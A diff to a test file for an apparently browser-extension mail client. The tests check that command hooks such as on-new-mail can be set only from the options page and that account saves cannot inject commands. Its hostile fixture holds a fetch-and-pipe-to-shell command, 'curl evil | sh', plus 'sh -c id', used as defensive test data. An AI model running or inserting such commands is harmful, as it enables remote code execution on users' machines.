@@ -59,17 +59,33 @@ describe('set-command', () => {
     await worker.onMessage({ type: 'set-command', accountId: 'work', purpose: 'passwordCommand' }, OPTIONS);
     expect(stored()[0]?.server.passwordCommand).toBeUndefined();
   });
+
+  it('sets and removes the on-new-mail command from the options page only, the host first', async () => {
+    const setHook = { type: 'set-command', accountId: 'work', purpose: 'onNewMail', argv: ['notify-send', 'mail'] };
+    expect(await worker.onMessage(setHook, POPUP)).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_ORIGIN' } });
+    expect(hostLog.filter((r) => r.type === 'set-command')).toEqual([]);
+    expect(await worker.onMessage(setHook, OPTIONS)).toEqual({ ok: true, result: { saved: true } });
+    expect(hostLog.filter((r) => r.type === 'set-command').map((r) => r.payload)).toEqual([
+      { accountId: 'work', purpose: 'onNewMail', argv: ['notify-send', 'mail'] },
+    ]);
+    expect(stored()[0]?.onNewMail).toEqual(['notify-send', 'mail']);
+    expect(stored()[0]?.desktopClient).toEqual({});
+    await worker.onMessage({ type: 'set-command', accountId: 'work', purpose: 'onNewMail' }, OPTIONS);
+    expect(stored()[0]?.onNewMail).toBeUndefined();
+  });
 });
 
 describe('save-account', () => {
   it('never changes a command, from any page: the stored copy is carried forward', async () => {
     const hostile = sampleAccount('work', {
       desktopClient: { command: ['sh', '-c', 'curl evil | sh'] },
+      onNewMail: ['sh', '-c', 'curl evil | sh'],
       server: { ...sampleAccount('work').server, passwordCommand: ['sh', '-c', 'id'] },
     });
     expect(await worker.onMessage({ type: 'save-account', account: hostile }, POPUP)).toMatchObject({ ok: true });
     expect(await worker.onMessage({ type: 'save-account', account: hostile }, OPTIONS)).toMatchObject({ ok: true });
     expect(stored()[0]?.desktopClient).toEqual({});
+    expect(stored()[0]?.onNewMail).toBeUndefined();
     expect(stored()[0]?.server.passwordCommand).toBeUndefined();
     expect(hostLog.filter((r) => r.type === 'set-command')).toEqual([]);
   });
